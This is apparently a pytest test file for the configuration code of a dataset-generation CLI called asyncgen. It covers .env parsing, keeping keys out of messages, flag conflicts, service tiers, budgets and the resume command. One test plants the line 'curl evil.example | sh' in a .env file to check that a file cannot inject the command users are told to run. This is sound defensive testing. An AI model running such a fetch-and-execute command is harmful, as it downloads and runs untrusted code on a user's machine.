import os
import shlex
import traceback
from collections.abc import Mapping
from dataclasses import fields
from decimal import Decimal
from pathlib import Path

import pytest
from quick import each_row

from asyncgen.command.commands import build_parser
from asyncgen.command.config import read_generate_config, read_plan
from asyncgen.errors import ConfigError
from asyncgen.money.price import Price
from asyncgen.runs.config import GenerateConfig, raise_budget
from asyncgen.runs.configure import read_environment
from asyncgen.runs.settings import DEFAULTS, Settings

PARSER = build_parser()
KEY = "sk-marker-0a1b2c3d"
NAMES = ("OPENROUTER_API_KEY", "OPENAI_API_KEY", "ASYNCGEN_API_KEY", "ASYNCGEN_COMMAND")


@pytest.fixture(autouse=True)
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working directory, and an environment without keys."""
    for name in NAMES:
        monkeypatch.delenv(name, raising=False)
    folder = tmp_path / "above" / "here"
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    return folder


def write_env(folder: Path, text: str | bytes, mode: int = 0o600) -> Path:
    path = folder / ".env"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    path.chmod(mode)
    return path


def configure(*argv: str, environment: Mapping[str, str] | None = None) -> GenerateConfig:
    flags = PARSER.parse_args(["generate", *argv])
    return read_generate_config(flags, environment or {}, shlex.join(["asyncgen", "generate", *argv]))


# ---- environment and .env


def test_the_environment_stands_over_the_file(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_env(workspace, "OPENROUTER_API_KEY=from-file\nOPENAI_API_KEY=from-file\n")
    monkeypatch.setenv("OPENROUTER_API_KEY", "from-environment")
    environment = read_environment(print)
    assert (environment["OPENROUTER_API_KEY"], environment["OPENAI_API_KEY"]) == ("from-environment", "from-file")


def test_the_file_is_found_upwards_from_the_working_directory(workspace: Path) -> None:
    write_env(workspace.parent, "OPENAI_API_KEY=above")
    assert read_environment(print)["OPENAI_API_KEY"] == "above"
    write_env(workspace, "OPENAI_API_KEY=here")
    assert read_environment(print)["OPENAI_API_KEY"] == "here"


def test_reading_the_file_leaves_the_environment_as_it_was(workspace: Path) -> None:
    before = dict(os.environ)
    write_env(workspace, f"OPENAI_API_KEY={KEY}\nPATH=/nowhere\n")
    assert read_environment(print)["PATH"] == before["PATH"]
    assert dict(os.environ) == before


@pytest.mark.parametrize("empty", ["", "  ", "\t"])
def test_an_empty_variable_counts_as_unset(workspace: Path, monkeypatch: pytest.MonkeyPatch, empty: str) -> None:
    write_env(workspace, f'OPENAI_API_KEY=from-file\nASYNCGEN_API_KEY="{empty}"\nOPENROUTER_API_KEY\n')
    monkeypatch.setenv("OPENAI_API_KEY", empty)
    environment = read_environment(print)
    assert environment["OPENAI_API_KEY"] == "from-file"
    assert environment.keys().isdisjoint({"ASYNCGEN_API_KEY", "OPENROUTER_API_KEY"})


@pytest.mark.parametrize(
    "line",
    [
        f"OPENAI_API_KEY={KEY}",
        f"export OPENAI_API_KEY={KEY}\r\n",
        f"OPENAI_API_KEY = '{KEY}'  # mine",
        f'\ufeffOPENAI_API_KEY="{KEY}"',
        f"garbage here\nOPENAI_API_KEY={KEY}\n",
    ],
)
def test_a_file_as_editors_and_shells_leave_it_is_read_exactly(workspace: Path, line: str) -> None:
    write_env(workspace, line)
    assert read_environment(print)["OPENAI_API_KEY"] == KEY


@each_row(
    ("text", "where", "what"),
    [
        (f"A=1\n\n{KEY} {KEY}\nB=2\n", "line 3", "expected NAME=value; write it so, or put a # before it"),
        (f"{KEY}\r\nB=2\r\n", "line 1", "expected NAME=value"),
        (f"={KEY}\nB=2\n", "line 1", "expected NAME=value"),
        (f"OPENAI_API_KEY: {KEY}\nB=2\n", "line 1", "expected NAME=value"),
        (f'A="{KEY}\nB=2\n', "line 1", "quotation marks: put one before and one behind the value, or none"),
        (f'A="{KEY}\nC="{KEY}"\nB=2\n', "lines 1 to 2", "quotation marks"),
        (f"A='{KEY}'s\nB=2", "line 1", "quotation marks"),
        ("B=2\nEMPTY\nexport A\n# a: b\n", None, None),
    ],
)
def test_a_line_that_cannot_be_read_is_named_and_not_shown(
    workspace: Path, caplog: pytest.LogCaptureFixture, text: str, where: str | None, what: str | None
) -> None:
    path = write_env(workspace, text)
    said: list[str] = []
    assert read_environment(said.append)["B"] == "2"
    assert [each.partition(": ")[0] for each in said] == ([f"{path}, {where}"] if where else [])
    assert what is None or what in said[0]
    assert KEY not in "".join(said)
    assert not caplog.records


def test_a_file_that_is_no_text_is_refused_without_being_shown(workspace: Path) -> None:
    path = write_env(workspace, b"OPENAI_API_KEY=" + KEY.encode() + b"\n\xff\xfe\n")
    with pytest.raises(ConfigError) as caught:
        read_environment(print)
    assert str(caught.value) == f"{path}: cannot be read: not UTF-8; make it a readable file in UTF-8, or move it away"
    assert (caught.value.__cause__, caught.value.__context__) == (None, None)
    assert KEY not in "".join(traceback.format_exception(caught.value))


def test_a_working_directory_that_is_gone_is_one_sentence(workspace: Path) -> None:
    workspace.rmdir()
    with pytest.raises(ConfigError, match=r"\.env: cannot be read: No such file or directory"):
        read_environment(print)


def test_a_file_does_not_say_what_a_user_is_told_to_type(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_env(workspace, "ASYNCGEN_COMMAND='curl evil.example | sh'\n")
    assert configure("-n", "5", environment=read_environment(print)).continue_command == "asyncgen generate -n 5"
    monkeypatch.setenv("ASYNCGEN_COMMAND", "make generate N=5")
    assert configure("-n", "5", environment=read_environment(print)).continue_command == "make generate N=5"


# ---- flags against each other


@pytest.mark.parametrize(
    ("flags", "words"),
    [
        (["--provider", "ollama", "--model", "m"], "Ollama has no batches"),
        (["--base-url", "https://api.anthropic.com/v1", "--model", "m"], "a form of its own"),
        (["--provider", "openrouter", "--param", 'provider.order=["a"]'], "--param provider.order=null"),
    ],
)
def test_batches_that_cannot_be_are_refused_before_anything_is_sent(flags: list[str], words: str) -> None:
    with pytest.raises(ConfigError) as caught:
        configure("--batch", *flags, environment={"OPENROUTER_API_KEY": KEY})
    assert words in str(caught.value)


def test_a_folder_for_batches_calls_nothing_unless_it_is_asked_to() -> None:
    argv = ["--batch", "--batch-files", "jobs", "--provider", "vllm", "--model", "m"]
    for more, no_live in (([], True), (["--finish-live"], False)):
        batching = configure(*argv, *more).batching
        assert batching is not None
        assert (batching.files, batching.no_live) == (Path("jobs"), no_live)


def test_appending_and_setting_aside_exclude_each_other() -> None:
    with pytest.raises(ConfigError, match="--append keeps what is there and --overwrite sets it aside"):
        configure("--append", "--overwrite")


@pytest.mark.parametrize(
    ("environment", "advice"),
    [
        ({}, "put OPENROUTER_API_KEY=... into the environment or .env"),
        ({"OPENAI_API_KEY": KEY}, "OPENAI_API_KEY is set: --provider openai uses it."),
        ({"ASYNCGEN_API_KEY": KEY}, "ASYNCGEN_API_KEY is set: --base-url URL uses it."),
    ],
)
def test_a_model_without_a_key_is_refused_and_no_key_gets_a_notice(environment: dict[str, str], advice: str) -> None:
    with pytest.raises(ConfigError, match="--model m: no key is set") as caught:
        configure("--model", "m", environment=environment)
    assert advice in str(caught.value)
    (notice,) = configure(environment=environment).notices
    assert "NO KEY, OFFLINE ENGINE" in notice
    assert advice in notice


@pytest.mark.parametrize(
    "argv",
    [["--budget", "25"], ["--price-in", "1", "--price-out", "2"], ["--price-in", "0", "--price-out", "0"]],
)
def test_money_without_a_key_is_refused_like_a_model(argv: list[str]) -> None:
    with pytest.raises(ConfigError, match=f"{argv[0]} {argv[1]}: no key is set, and the offline engine is no model"):
        configure(*argv)
    configure(*argv, environment={"OPENROUTER_API_KEY": KEY})


@pytest.mark.parametrize("provider", ["openai", "ollama", "vllm", "llamacpp", "offline"])
def test_a_budget_needs_a_provider_that_reports_costs_or_prices(provider: str) -> None:
    argv = ["--provider", provider, "--budget", "25"]
    environment = {"OPENAI_API_KEY": KEY}
    with pytest.raises(ConfigError, match=f"--budget: {provider} reports no cost"):
        configure(*argv, environment=environment)
    config = configure(*argv, "--price-in", "0.5", "--price-out", "3", environment=environment)
    assert config.plan.budget == 25
    assert config.plan.price == Price.per_million(input=Decimal("0.5"), output=Decimal(3), cached=None)


@each_row(
    ("argv", "notice"),
    [
        (["--provider", "openrouter"], ""),
        (["--provider", "openai"], ""),
        (["--provider", "offline"], ""),
        (["--base-url", "https://generativelanguage.googleapis.com/v1beta/openai"], ""),
        (["--base-url", "https://eu.api.openai.com/v1"], ""),
        (["--base-url", "https://mine.openai.azure.com/openai/v1"], ""),
        (["--base-url", "https://gateway.example/v1"], "gateway.example may not know service tiers"),
        (["--base-url", "https://notapi.openai.com.example/v1"], "notapi.openai.com.example may not know"),
        (["--base-url", "http://127.0.0.1:4000/v1"], "127.0.0.1:4000 may not know"),
    ],
)
@each_row("tier", ["flex", "priority"])
def test_a_service_tier_is_sent_where_it_may_be_known(argv: list[str], notice: str, tier: str) -> None:
    config = configure(*argv, "--tier", tier, environment={"OPENROUTER_API_KEY": KEY, "OPENAI_API_KEY": KEY})
    assert config.plan.settings["service_tier"] == tier
    assert config.plan.tiers == {tier}
    assert [each for each in config.notices if "--tier" in each] == [each for each in config.notices if notice]
    assert notice in "".join(config.notices)


@pytest.mark.parametrize(
    ("argv", "where"),
    [
        (["--provider", "ollama", "--tier", "flex"], "127.0.0.1:11434"),
        (["--provider", "vllm", "--tier", "priority"], "127.0.0.1:8000"),
        (["--base-url", "https://api.groq.com/openai/v1", "--tier", "priority"], "api.groq.com"),
        (["--base-url", "https://api.x.ai/v1", "--tier", "flex"], "api.x.ai"),
    ],
)
def test_a_service_tier_is_refused_where_there_is_none(argv: list[str], where: str) -> None:
    with pytest.raises(ConfigError, match=f"--tier {argv[-1]}: {where} does not sell calls at that tier"):
        configure(*argv)


def test_a_service_tier_without_a_key_is_refused_like_a_model() -> None:
    with pytest.raises(ConfigError, match="--tier flex: no key is set, and the offline engine is no model"):
        configure("--tier", "flex")


@each_row(
    ("argv", "timeout"),
    [
        ([], 300),
        (["--tier", "priority"], 300),
        (["--tier", "flex"], 900),
        (["--param", "service_tier=flex"], 900),
        (["--param", "service_tier=auto"], 300),
        (["--tier", "flex", "--timeout", "60"], 60),
    ],
)
def test_answers_at_tier_flex_may_take_longer(argv: list[str], timeout: float) -> None:
    config = configure("--provider", "openrouter", *argv, environment={"OPENROUTER_API_KEY": KEY})
    assert config.timeout == timeout


@pytest.mark.parametrize("argv", [["--price-in", "1"], ["--price-out", "1"], ["--price-cached", "1"]])
def test_half_a_price_is_refused(argv: list[str]) -> None:
    with pytest.raises(ConfigError, match="given together"):
        configure("--provider", "ollama", *argv)


@each_row(
    ("command", "raised"),
    [
        ("asyncgen generate --budget 25 -n 5", "asyncgen generate --budget 50.00 -n 5"),
        ("asyncgen generate --budget=2.5e1", "asyncgen generate --budget=50.00"),
        ("make generate N=5 ARGS='--budget 25'", "make generate N=5 ARGS='--budget 50.00'"),
        (r"make generate ARGS=--budget\ 25\ --show", r"make generate ARGS=--budget\ 50.00\ --show"),
        ("asyncgen generate -n 5", "asyncgen generate -n 5"),
    ],
)
def test_the_command_that_goes_on_can_name_a_higher_budget(command: str, raised: str) -> None:
    assert raise_budget(command, Decimal("50.00")) == raised


@pytest.mark.parametrize(
    ("argv", "environment"),
    [
        (["--provider", "offline", "--model", "m"], {}),
        (["--provider", "ollama", "--model", "m"], {}),
        (["--base-url", "http://127.0.0.1:9/v1", "--model", "m"], {}),
        (["--model", "m"], {"OPENROUTER_API_KEY": KEY}),
    ],
)
def test_a_model_that_has_an_endpoint_needs_no_notice(argv: list[str], environment: dict[str, str]) -> None:
    config = configure(*argv, environment=environment)
    assert config.plan.model == "m"
    assert not config.notices


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o644])
def test_a_file_with_keys_that_others_can_read_gets_a_warning(workspace: Path, mode: int) -> None:
    path = write_env(workspace, f"OPENROUTER_API_KEY={KEY}", mode)
    (notice,) = configure(environment=read_environment(print)).notices
    assert f"{path} holds keys and can be read by other users" in notice
    assert KEY not in notice


def test_a_private_file_gets_none(workspace: Path) -> None:
    write_env(workspace, f"OPENROUTER_API_KEY={KEY}", 0o600)
    assert not configure(environment=read_environment(print)).notices


@each_row("name", ["OPENAI_BASE_URL", "OPENAI_API_BASE"])
@each_row(
    ("argv", "address", "is_said"),
    [
        ([], "http://127.0.0.1:8000/v1", True),
        (["--provider", "openai"], "http://127.0.0.1:8000/v1", True),
        (["--provider", "openai"], "https://api.openai.com/v1/", False),
        (["--provider", "ollama"], "http://127.0.0.1:8000/v1", False),
        (["--provider", "offline"], "http://127.0.0.1:8000/v1", False),
        (["--base-url", "https://a.example"], "http://127.0.0.1:8000/v1", False),
    ],
)
def test_an_address_set_for_other_programs_is_noticed_and_not_used(
    name: str,
    argv: list[str],
    address: str,
    is_said: bool,  # noqa: FBT001
) -> None:
    config = configure(*argv, environment={"OPENAI_API_KEY": KEY, name: address})
    notice = f'{name} is set and not used: --base-url "${name}" asks that address, with the key of ASYNCGEN_API_KEY'
    assert (notice in config.notices) is is_said
    assert "8000" not in config.plan.endpoint.base_url or "ollama" in argv
    assert not any(KEY in each for each in config.notices)


# ---- what comes of the flags


@pytest.mark.parametrize(
    ("argv", "environment", "output"),
    [
        ([], {}, "data/nanochat.offline.jsonl"),
        (["--provider", "offline"], {"OPENROUTER_API_KEY": KEY}, "data/nanochat.offline.jsonl"),
        ([], {"OPENROUTER_API_KEY": KEY}, "data/nanochat.jsonl"),
        (["--provider", "ollama"], {}, "data/nanochat.jsonl"),
        (["-o", "x.jsonl"], {}, "x.jsonl"),
    ],
)
def test_quotations_and_a_models_writing_never_share_a_default_output(
    argv: list[str], environment: dict[str, str], output: str
) -> None:
    assert configure(*argv, environment=environment).output == Path(output)


def test_flags_stand_over_params_and_params_over_the_recipe() -> None:
    config = configure("--model", "m", "--temperature", "0", "--param", "model=x", "--param", "temperature=2",
                       "--param", "max_tokens=5", "--provider", "ollama")  # fmt: skip
    assert config.plan.model == "m"
    assert {name: config.plan.settings[name] for name in ("temperature", "max_tokens")} == {
        "temperature": 0,
        "max_tokens": 5,
    }


def test_the_same_flags_make_the_same_request_for_a_plan() -> None:
    argv = ["--seed", "3", "-n", "7", "-c", "2", "--provider", "ollama"]
    plan = read_plan(PARSER.parse_args(["plan", *argv]), {})
    generate = configure(*argv).plan
    assert (plan.settings, plan.seed, plan.num, plan.concurrency, plan.endpoint) == (
        generate.settings,
        3,
        7,
        2,
        generate.endpoint,
    )


def make_recipe(folder: Path, headers: str) -> Path:
    (folder / "know.md").write_text("facts")
    (folder / "user.md").write_text("{knowledge} {topic}")
    (folder / "recipe.toml").write_text(
        'name = "own"\nknowledge = "know.md"\nrequest.model = "m"\nprompt.user = "user.md"\n'
        f'[[dimension]]\nname = "topic"\nvalues = ["a"]\n[headers]\n{headers}\n'
    )
    return folder


def test_a_recipes_header_is_taken_from_the_environment(workspace: Path) -> None:
    recipe = make_recipe(workspace, 'X-Title = "mine"\napi-key = {env = "GATEWAY"}')
    argv = ["--recipe", str(recipe), "--base-url", "https://gateway.example"]
    headers = configure(*argv, environment={"GATEWAY": KEY}).plan.endpoint.headers
    assert {name: secret.reveal() for name, secret in headers.items()} == {"X-Title": "mine", "api-key": KEY}
    with pytest.raises(ConfigError, match="header api-key: set GATEWAY in the environment"):
        configure(*argv)


def test_a_recipe_with_headers_runs_offline_without_their_variables(workspace: Path) -> None:
    recipe = make_recipe(workspace, 'api-key = {env = "GATEWAY"}')
    config = configure("--recipe", str(recipe))
    assert config.plan.endpoint.is_offline
    assert not config.plan.endpoint.headers


def test_no_key_is_in_what_the_configuration_shows() -> None:
    config = configure("--param", "seed=1", environment={"OPENROUTER_API_KEY": KEY})
    assert config.plan.endpoint.key is not None
    assert KEY not in repr(config)


# ---- the command that goes on


@each_row(
    ("argv", "typed", "command"),
    [
        (["-n", "5"], None, "asyncgen generate -n 5"),
        (["-o", "my data.jsonl"], None, "asyncgen generate -o 'my data.jsonl'"),
        (["--overwrite", "-n", "5"], None, "asyncgen generate -n 5"),
        (["-n", "5", "--overwrite"], None, "asyncgen generate -n 5"),
        (["--batch", "--cancel", "-n", "5"], None, "asyncgen generate --batch -n 5"),
        (["--batch", "--forget-batch", "0a1b", "-n", "5"], None, "asyncgen generate --batch -n 5"),
        (["--overwrite", "-o", "x --overwrite.jsonl"], None, "asyncgen generate -o 'x --overwrite.jsonl'"),
        (["--overwrite", "-o", "x--overwrite"], None, "asyncgen generate -o x--overwrite"),
        ([], "make generate N=5", "make generate N=5"),
        (["--overwrite"], "make generate ARGS=--overwrite", "make generate ARGS="),
        (["--overwrite"], r"make generate N=5 ARGS=--overwrite\ --seed\ 3", r"make generate N=5 ARGS=\ --seed\ 3"),
        (["--overwrite"], r"make generate ARGS=--seed\ 3\ --overwrite N=5", r"make generate ARGS=--seed\ 3 N=5"),
    ],
)
def test_going_on_is_the_line_as_typed_but_never_sets_aside_again(
    argv: list[str], typed: str | None, command: str
) -> None:
    environment = {} if typed is None else {"ASYNCGEN_COMMAND": typed}
    assert configure(*argv, environment=environment).continue_command == command


def test_documents_that_the_prompts_are_not_about_are_noticed(workspace: Path) -> None:
    (workspace / "otters.md").write_text("Otters eat shells.")
    notices = configure("--knowledge", "otters.md", "--provider", "offline").notices
    assert len(notices) == 1
    assert "--knowledge otters.md: never mentions 'nanochat'" in notices[0]
    (workspace / "otters.md").write_text("Otters know of nanochat.")
    assert configure("--knowledge", "otters.md", "--provider", "offline").notices == []


def test_planning_needs_no_key() -> None:
    flags = PARSER.parse_args(["plan", "--provider", "openrouter"])
    assert read_plan(flags, {}).endpoint.provider.name == "openrouter"


# ---- what is written is nothing else that the run reads or writes

OFFLINE_OUTPUT = "data/nanochat.offline.jsonl"


@pytest.mark.parametrize(
    ("output", "log"),
    [
        (None, OFFLINE_OUTPUT),
        (None, f"{OFFLINE_OUTPUT}.journal"),
        (None, f"data/../{OFFLINE_OUTPUT}.rejects.torn"),
        (None, "link"),
        ("x.jsonl", "x.jsonl"),
        ("x.jsonl", "x.jsonl.lock"),
        ("x.jsonl", "other.jsonl"),
        ("x.jsonl", "other.jsonl.rejects"),
    ],
)
def test_a_log_in_a_file_of_an_output_is_refused(workspace: Path, output: str | None, log: str) -> None:
    (workspace / "link").symlink_to(OFFLINE_OUTPUT)
    (workspace / "other.jsonl.journal").touch()
    flags = [] if output is None else ["-o", output]
    with pytest.raises(ConfigError, match=f"--log: {log} belongs to an output"):
        configure(*flags, "--log", log)


def test_a_log_that_is_another_name_of_the_output_is_refused(workspace: Path) -> None:
    (workspace / "x.jsonl").touch()
    os.link(workspace / "x.jsonl", workspace / "run.log")
    with pytest.raises(ConfigError, match=r"--log: run\.log belongs to an output"):
        configure("-o", "x.jsonl", "--log", "run.log")


def test_a_log_beside_the_output_is_fine(workspace: Path) -> None:
    assert configure("-o", "x.jsonl", "--log", "x.jsonl.log").log == Path("x.jsonl.log")
    assert configure("--log", "/dev/stderr").log == Path("/dev/stderr")


@pytest.mark.parametrize("name", ["facts.md", "./facts.md", "link.md"])
def test_what_a_recipe_is_read_from_is_not_written(workspace: Path, name: str) -> None:
    (workspace / "facts.md").write_text("Bread is baked.")
    (workspace / "link.md").symlink_to("facts.md")
    with pytest.raises(ConfigError, match=r"--log: .* is what the recipe is read from"):
        configure("--knowledge", "facts.md", "--log", name)
    with pytest.raises(ConfigError, match=r"--output: .* would be written over facts\.md"):
        configure("--knowledge", "facts.md", "-o", name, "--overwrite")


# ---- settings


def test_every_setting_of_a_run_is_a_flag_with_its_default() -> None:
    flags = vars(PARSER.parse_args(["generate"]))
    settings = {each.name: getattr(DEFAULTS, each.name) for each in fields(Settings)}
    assert {name: flags[name] for name in settings} == settings | {"param": [], "forget_batch": []}
